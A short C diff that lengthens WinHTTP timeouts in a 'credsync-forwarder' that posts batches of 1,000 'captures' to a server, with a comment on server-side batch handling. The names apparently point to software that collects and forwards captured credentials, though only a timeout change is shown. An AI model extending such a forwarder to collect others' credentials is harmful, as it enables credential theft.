@@ -114,7 +114,10 @@ static DWORD post(const WCHAR *path, const char *body, DWORD len, const char *si
         g_session = WinHttpOpen(L"credsync-forwarder/1", WINHTTP_ACCESS_TYPE_NO_PROXY,
                                 WINHTTP_NO_PROXY_NAME, WINHTTP_NO_PROXY_BYPASS, 0);
         if (!g_session) return 0;
-        WinHttpSetTimeouts(g_session, 5000, 5000, 30000, 30000);
+        /* resolve, connect 5 s; send and receive 120 s: a batch of 1,000 captures is checked
+         * and stored before the server answers, which on a busy server took over 30 s (a batch
+         * left unanswered is kept and sent again; the server counts a capture once) */
+        WinHttpSetTimeouts(g_session, 5000, 5000, 120000, 120000);
     }
     if (!g_connect) g_connect = WinHttpConnect(g_session, host, (INTERNET_PORT)cfg.server_port, 0);
     if (!g_connect) {
